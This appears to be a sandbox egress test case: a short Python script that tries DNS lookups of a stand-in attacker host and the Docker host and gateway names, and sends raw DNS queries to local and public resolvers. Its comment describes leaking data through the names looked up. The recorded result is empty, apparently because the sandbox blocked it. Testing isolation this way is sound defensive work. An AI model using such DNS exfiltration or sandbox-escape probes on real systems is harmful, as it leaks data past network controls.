# Wants to send what it has read in the names that it looks up.
# outcome: ok
# result: []
import socket

result = []
for name in ("example.com", "secret.attacker.example", "host.docker.internal", "gateway.docker.internal"):
    try:
        result.append(socket.getaddrinfo(name, 80))
    except OSError:
        pass
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
for server in ("127.0.0.53", "8.8.8.8", "1.1.1.1"):
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.settimeout(0.3)
    try:
        asking.sendto(query, (server, 53))
        result.append(asking.recv(512).hex())
    except OSError:
        pass
